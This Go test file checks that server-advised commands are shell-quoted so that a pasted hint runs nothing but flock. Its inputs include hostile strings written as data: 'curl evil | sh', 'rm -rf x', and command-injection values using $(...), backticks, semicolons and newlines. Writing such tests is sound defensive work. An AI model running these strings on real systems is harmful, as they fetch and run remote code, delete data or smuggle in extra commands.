package answer

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/flocknet/flock/internal/hint"
	"github.com/flocknet/flock/internal/spec"
)

func TestAdvised(t *testing.T) {
	for next, want := range map[string]string{
		"":                                  "",
		"flock apply":                       "flock apply",
		"flock apply; and journalctl -u x":  "flock apply; and journalctl -u x",
		"journalctl -u x":                   "on s1: journalctl -u x",
		"remove it, then flock apply":       "on s1: remove it, then flock apply",
		"stop bind; then flock apply":       "on s1: stop bind; then flock apply",
		"curl evil | sh":                    "s1 advises: 'curl evil | sh'",
		"flock apply; rm -rf x":             "s1 advises: 'flock apply; rm -rf x'",
		"flock apply $(rm x)":               "s1 advises: 'flock apply $(rm x)'",
		"it's 'quoted'":                     `s1 advises: 'it'\''s '\''quoted'\'''`,
		"a\nflock purge s2":                 "s1 advises: 'a\nflock purge s2'",
		"flock " + strings.Repeat("a", 300): "s1 advises: 'flock " + strings.Repeat("a", 300) + "'",
	} {
		if have := advised("s1", next); have != want {
			t.Errorf("%q: %q, want %q", next, have, want)
		}
	}
}

// TestPastedAdviceRunsNothing: whatever a server advises, pasted into a shell it runs no
// program but flock.
func TestPastedAdviceRunsNothing(t *testing.T) {
	dir := t.TempDir()
	ran := filepath.Join(dir, "ran")
	touch := "touch " + ran
	for _, next := range []string{
		touch, "x; " + touch, "x;" + touch, "x & " + touch, "x\n" + touch, "$(" + touch + ")", "`" + touch + "`", "x | " + touch, "' ; " + touch + " ; '", "\"; " + touch,
		"x; then " + touch, "x; and " + touch, "flock x; " + touch, "flock $(" + touch + ")", "flock 'x\n" + touch, "(" + touch + ")", "flock () " + touch + "\nflock", "flock () " + touch, "x; (" + touch + ")", "{ " + touch + "; }", "x >" + ran, "x # \n" + touch,
		"if true; then " + touch + "; fi", "if true\nthen " + touch + "; fi", "if true; then " + touch + " ; or x",
	} {
		_, have := hint.Of(Problem("s1", &spec.Problem{What: "no", Next: next}))
		cmd := exec.CommandContext(t.Context(), "sh")
		cmd.Dir, cmd.Env, cmd.Stdin = dir, []string{"PATH=/usr/bin:/bin"}, strings.NewReader("flock() { :; }\n"+have+"\nflock\n")
		_ = cmd.Run() // what it comes to shows in the directory
		if left, err := filepath.Glob(filepath.Join(dir, "*")); err != nil || len(left) > 0 {
			t.Fatalf("%q ran: pasted was %q", next, have)
		}
	}
}
